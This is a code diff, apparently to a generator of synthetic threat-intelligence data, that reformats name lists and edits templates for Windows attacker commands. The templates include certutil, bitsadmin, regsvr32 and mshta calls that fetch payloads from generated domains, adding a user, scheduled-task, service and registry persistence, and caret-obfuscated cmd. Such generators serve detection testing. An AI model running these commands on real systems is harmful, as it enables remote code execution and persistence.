@@ -7,10 +7,49 @@ from dataclasses import dataclass
 
 from ctiforge.observables import Observable
 
-_ONSETS = "b br c ch d dr f g gr h j k kl l m n p pr qu r s sk st t tr v w z".split()
-_VOWELS = "a e i o u ai ea io ou".split()
-_CODAS = "n r s t x l m rk nd sh".split() + [""] * 6
-_PARENTS = "winword.exe excel.exe outlook.exe explorer.exe services.exe w3wp.exe wmiprvse.exe mshta.exe cmd.exe".split()
+_ONSETS = [
+    "b",
+    "br",
+    "c",
+    "ch",
+    "d",
+    "dr",
+    "f",
+    "g",
+    "gr",
+    "h",
+    "j",
+    "k",
+    "kl",
+    "l",
+    "m",
+    "n",
+    "p",
+    "pr",
+    "qu",
+    "r",
+    "s",
+    "sk",
+    "st",
+    "t",
+    "tr",
+    "v",
+    "w",
+    "z",
+]
+_VOWELS = ["a", "e", "i", "o", "u", "ai", "ea", "io", "ou"]
+_CODAS = ["n", "r", "s", "t", "x", "l", "m", "rk", "nd", "sh"] + [""] * 6
+_PARENTS = [
+    "winword.exe",
+    "excel.exe",
+    "outlook.exe",
+    "explorer.exe",
+    "services.exe",
+    "w3wp.exe",
+    "wmiprvse.exe",
+    "mshta.exe",
+    "cmd.exe",
+]
 _FOLDERS = (
     r"C:\ProgramData",
     r"C:\Users\Public",
@@ -155,8 +194,8 @@ _WINDOWS_COMMANDS: Sequence[Callable[[Names], str]] = (
     lambda n: f'powershell.exe -ep bypass -file "{n.path("ps1")}"',
     lambda n: f'cmd.exe /c "{n.path("bat")} {n.lower()}"',
     lambda n: f"cmd /c start /b {n.path('exe')} -{n.rng.choice('abdkpst')} {n.lower()}",
-    lambda n: f"certutil -urlcache -f hxxp://{n.domain()}/{n.lower()} {n.path('exe')}",
-    lambda n: f"bitsadmin /transfer {n.lower()} http://{n.domain()}/{n.lower()}.bin {n.path('exe')}",
+    lambda n: f"certutil -urlcache -f hxxp://{n.domain()}/{n.lower()} {n.lower()}.exe",
+    lambda n: f"bitsadmin /transfer {n.lower()} http://{n.domain()}/{n.lower()}.bin",
     lambda n: f"regsvr32 /s /n /i:http://{n.domain()}/{n.lower()}.sct scrobj.dll",
     lambda n: f"mshta http://{n.domain()}/{n.lower()}.hta",
     lambda n: f"net user {n.lower()} {n.camel()}{n.rng.randint(10, 99)}! /add",
@@ -164,7 +203,7 @@ _WINDOWS_COMMANDS: Sequence[Callable[[Names], str]] = (
     lambda n: f"wmic /node:{n.address()} process call create {n.path('exe')}",
     lambda n: f"schtasks /create /tn {n.camel()} /tr {n.path('exe')} /sc daily",
     lambda n: f"sc create {n.camel()} binPath= {n.path('exe')} start= auto",
-    lambda n: f"reg add {n.rng.choice(_KEYS[:2])} /v {n.camel()} /d {n.path('exe')} /f",
+    lambda n: f"reg add {n.rng.choice(_KEYS[:2])} /v {n.camel()} /f",
     lambda n: f"{n.lower()}.exe --{n.lower()} {n.address()}:{n.rng.choice((443, 8080, 4444))}",
     lambda n: f"{n.path('exe')} -{n.rng.choice('abdkpst')} {n.lower()}",
     lambda n: f"{_careted('cmd', n.rng)} /c {_careted('start', n.rng)} {n.path('exe')}",
